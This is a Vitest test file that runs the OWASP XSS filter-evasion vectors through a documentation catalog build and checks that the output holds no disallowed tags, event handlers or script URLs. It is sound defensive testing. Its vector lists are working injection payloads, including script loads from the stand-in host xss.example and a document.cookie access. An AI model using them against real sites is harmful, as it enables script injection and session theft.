// Script injection into the catalog: the vectors of the OWASP XSS filter-evasion cheat sheet (our own
// list of its patterns) written in article bodies, included fragments, link targets, image sources,
// portal blade links, replacement tokens and HTML attributes, built with `compileCatalog` and checked
// on the written catalog.json: in every `html` no element or attribute outside the allowlist, no event
// handler, no script-capable URL (after entity decoding, as a browser reads it), and no link
// destination in `links` that a browser would run as script.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildTree, cleanupSandboxes, sandbox, selfhelp } from './helpers.js';

afterAll(cleanupSandboxes);

/** Raw HTML vectors. */
const HTML_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<script/src="//xss.example/x.js"></script>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<IMG SRC=x onerror="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG DYNSRC="javascript:alert(1)"> <IMG LOWSRC="javascript:alert(1)">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="  javascript:alert(1)">a</a>',
  '<a href="&#x6A;avascript:alert(1)">a</a>',
  '<a href="&#106avascript:alert(1)">a</a>',
  '<a href="&#0000106avascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="java&Tab;script:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="VBSCRIPT:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="livescript:alert(1)">a</a> <a href="mocha:alert(1)">b</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)" style="x" target="_blank">ok</a>',
  '<SVG onload=alert(1)>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<BODY onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
  '<STYLE>@import\'javascript:alert(1)\';</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
  '<DIV STYLE="width: expression(alert(1));">x</DIV>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);"> <link rel=import href="//xss.example/x.html">',
  '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD BACKGROUND="javascript:alert(1)">x</TD></TR></TABLE>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="//xss.example/x.html"></OBJECT> <object data="javascript:alert(1)"></object>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<BASE HREF="javascript:alert(1);//">',
  '<form action="javascript:alert(1)"><input type="submit"><button formaction="javascript:alert(1)">x</button></form>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)" onerror="alert(1)"><source src="javascript:alert(1)" onerror="alert(1)"></video>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<p onclick="alert(1)" id="location" name="cookie">clobber</p>',
  '<a href="data-blade:x" onclick="alert(1)" data-blade="Evil">x</a>',
  '<span data-token="t" onmouseover="alert(1)">t</span>',
  '<textarea><script>alert(1)</script></textarea> <title><script>alert(1)</script></title>',
];

/** Markdown vectors: link and image destinations, references, autolinks, blade links. */
const MARKDOWN_VECTORS = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](jav&#x09;ascript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](<javascript:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](java%0ascript:alert(1))',
  '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '![i](javascript:alert(1))',
  '![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![i](vbscript:msgbox(1))',
  '![i"onerror="alert(1)](https://ok.example/a.png)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '[r1] and ![r2]\n\n[r1]: javascript:alert(1)\n[r2]: data:text/html,<script>alert(1)</script>',
  '[blade](data-blade:"><script>alert(1)</script>)',
  '[blade](data-blade:javascript:alert(1))',
  '[blade](button-data-blade:x onmouseover=alert(1))',
  '[blade](button-data-context:alert(document.cookie))',
  '[blade](DATA-BLADE:javascript:alert(1))',
  '# Heading <img src=x onerror=alert(1)>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |',
  '- [ ] <a href="javascript:alert(1)">task</a>',
  '```html\n<script>alert(1)</script>\n```',
  'Footnote[^1]\n\n[^1]: <script>alert(1)</script> [f](javascript:alert(1))',
];

/** Decodes character references the way a browser reads an attribute value (with or without `;`). */
function decodeEntities(value: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0', lpar: '(', rpar: ')', sol: '/' };
  let out = value;
  for (let i = 0; i < 3; i++) {
    out = out.replace(/&(?:#[xX]([0-9a-fA-F]+)|#(\d+)|([A-Za-z]+));?/g, (m, hex?: string, dec?: string, name?: string) => {
      if (hex) return String.fromCodePoint(Math.min(Number.parseInt(hex, 16), 0x10ffff));
      if (dec) return String.fromCodePoint(Math.min(Number(dec), 0x10ffff));
      return named[name!.toLowerCase()] ?? m;
    });
  }
  return out;
}

/** What a browser's URL parser sees: leading/trailing C0 controls and spaces trimmed, tabs and newlines removed. */
function browserUrl(value: string): string {
  // eslint-disable-next-line no-control-regex
  return decodeEntities(value).replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '').toLowerCase();
}

const SCRIPT_URL = /^(?:javascript|vbscript|data|livescript|mocha|jscript|about):/;
const ALLOWED_TAGS = new Set(['a', 'abbr', 'b', 'blockquote', 'br', 'code', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'input', 'ins', 'kbd', 'li', 'ol', 'p', 'pre', 'q', 's', 'samp', 'section', 'source', 'span', 'strike', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'tt', 'u', 'ul', 'var', 'video']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'poster', 'cite', 'background', 'data', 'codebase', 'xlink:href', 'srcset', 'lowsrc', 'dynsrc', 'longdesc', 'usemap', 'manifest', 'ping']);
const SAFE_SCHEMES = /^(?:https?|mailto):/;

/** Checks one `html` string tag by tag; returns the problems found. */
function htmlProblems(html: string): string[] {
  const problems: string[] = [];
  const tag = /<(\/?)([A-Za-z][^\s/>]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g;
  let stripped = html;
  for (const m of html.matchAll(tag)) {
    stripped = stripped.replace(m[0], '');
    const name = m[2]!.toLowerCase();
    if (!ALLOWED_TAGS.has(name)) problems.push(`element <${name}>`);
    for (const a of m[3]!.matchAll(/\s+([^\s=/>]+)(?:="([^"]*)")?/g)) {
      const attr = a[1]!.toLowerCase();
      const value = a[2] ?? '';
      if (attr.startsWith('on')) problems.push(`event handler ${attr} on <${name}>`);
      if (attr === 'style' || attr === 'srcdoc' || attr === 'target' || attr === 'name') problems.push(`attribute ${attr} on <${name}>`);
      if (URL_ATTRIBUTES.has(attr)) {
        const url = browserUrl(value);
        if (SCRIPT_URL.test(url)) problems.push(`${attr}="${value}" on <${name}>`);
        else if (/^[a-z][a-z0-9+.-]*:/.test(url) && !SAFE_SCHEMES.test(url)) problems.push(`scheme in ${attr}="${value}"`);
      }
      if (attr.startsWith('data-') && SCRIPT_URL.test(browserUrl(value))) problems.push(`${attr}="${value}"`);
    }
  }
  // Whatever is left must be text: no markup the tag pattern did not account for.
  if (/<[A-Za-z!/?]/.test(stripped)) problems.push(`unparsed markup in ${JSON.stringify(stripped.slice(0, 200))}`);
  if (/<script/i.test(html)) problems.push('<script');
  return problems;
}

interface CatalogJson {
  articles: {
    id: string;
    html: string;
    title: string | null;
    links: { kind: string; href: string; text: string }[];
    sections: { heading: { id: string } | null }[];
    issueDescription: { template: string; tokens: { name: string; default: string }[] } | null;
  }[];
}

function readCatalog(base: string): { text: string; catalog: CatalogJson } {
  const text = readFileSync(join(base, 'out', 'catalog.json'), 'utf8');
  return { text, catalog: JSON.parse(text) as CatalogJson };
}

/** Every string a portal could follow as a link or put in an attribute besides `html`: link hrefs, heading ids. */
function renderBound(catalog: CatalogJson): string[] {
  return catalog.articles.flatMap((a) => [...a.links.map((l) => l.href), ...a.sections.map((s) => s.heading?.id ?? '')]);
}

describe('catalog HTML', () => {
  it('OWASP filter-evasion vectors in bodies, includes, links, images, blade links and tokens: none survives into catalog.json', async () => {
    const files: Record<string, string> = {};
    HTML_VECTORS.forEach((v, i) => {
      files[`articles/html-${i}.md`] = selfhelp(`Html${i}`, `# Title ${i}\n\n${v}\n\nInline: before ${v} after.\n\n> Quoted ${v}\n\n- item ${v}\n`);
    });
    MARKDOWN_VECTORS.forEach((v, i) => {
      files[`articles/md-${i}.md`] = selfhelp(`Md${i}`, `# Title ${i}\n\n${v}\n`);
    });
    // Vectors reaching the article through an include, a replacement token and an issueDescription.
    files['includes/evil.md'] = `${HTML_VECTORS.slice(0, 20).join('\n\n')}\n\n${MARKDOWN_VECTORS.slice(0, 15).join('\n\n')}\n`;
    files['articles/include.md'] = selfhelp('Include', '# Title\n\n[!INCLUDE [evil](../includes/evil.md)]\n');
    files['articles/token.md'] = selfhelp(
      'Token',
      '# Title\n\n<!--issueDescription-->Run <!--$cmd-->"><script>alert(1)</script><img src=x onerror=alert(1)><!--/$cmd--> now.<!--/issueDescription-->\n',
    );
    const box = sandbox(files);
    const build = await buildTree(box, ['articles']);
    expect(build.invalid).toEqual([]);
    expect(build.articles).toBe(HTML_VECTORS.length + MARKDOWN_VECTORS.length + 2);
    const { catalog } = readCatalog(box.base);
    // Structurally, tag by tag (an attribute value may quote `onmouseover=` as escaped text: that is not a handler).
    for (const article of catalog.articles) expect(htmlProblems(article.html), `${article.id}: ${article.html}`).toEqual([]);
    for (const value of renderBound(catalog)) {
      expect(browserUrl(value)).not.toMatch(SCRIPT_URL);
      expect(value).not.toMatch(/[<>"']/);
    }
    // Safe markup next to the vectors survives, and the link text is kept when the URL goes.
    const md0 = catalog.articles.find((a) => a.id === 'Md0')!;
    expect(md0.html).toBe('<h1 id="title-0">Title 0</h1>\n<p><a>a</a></p>');
    const ok = catalog.articles.find((a) => a.html.includes('https://ok.example"'));
    expect(ok).toBeDefined();
  });

  it('a link whose destination a browser would run as script is listed without that destination', async () => {
    const box = sandbox({
      'articles/links.md': selfhelp('Links', `# Title\n\n${MARKDOWN_VECTORS.slice(0, 12).join('\n\n')}\n\n${HTML_VECTORS.slice(24, 36).join('\n\n')}\n`),
    });
    await buildTree(box, ['articles']);
    const { catalog } = readCatalog(box.base);
    const links = catalog.articles[0]!.links;
    expect(links.length).toBeGreaterThan(20);
    for (const link of links) {
      const url = browserUrl(link.href);
      expect(url, JSON.stringify(link)).not.toMatch(SCRIPT_URL);
      expect(['https', 'http', 'relative', 'anchor', 'mailto', 'data-blade', 'button-data-blade', 'button-data-context'].includes(link.kind) && /^[a-z][a-z0-9+.-]*:/.test(url) && !/^(?:https?|mailto|data-blade|button-data-blade|button-data-context):/.test(url), JSON.stringify(link)).toBe(false);
    }
  });

  it('plain-text fields keep the author text as text (JSON strings the portal must escape), never as rendered HTML', async () => {
    const vector = '"><script>alert(1)</script><img src=x onerror=alert(1)>';
    const escaped = vector.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
    const box = sandbox({ 'articles/meta.md': selfhelp('Meta', `# Title\n\nBody.\n`, `\n  infoBubbleText="${escaped}"`) });
    await buildTree(box, ['articles']);
    const { text, catalog } = readCatalog(box.base);
    const article = catalog.articles[0]!;
    expect(article.html).toBe('<h1 id="title">Title</h1>\n<p>Body.</p>');
    // The value is a JSON string: quotes escaped by JSON, markup kept as characters for the portal to escape.
    expect(text).toContain(`"infoBubbleText":${JSON.stringify(vector)}`);
  });
});
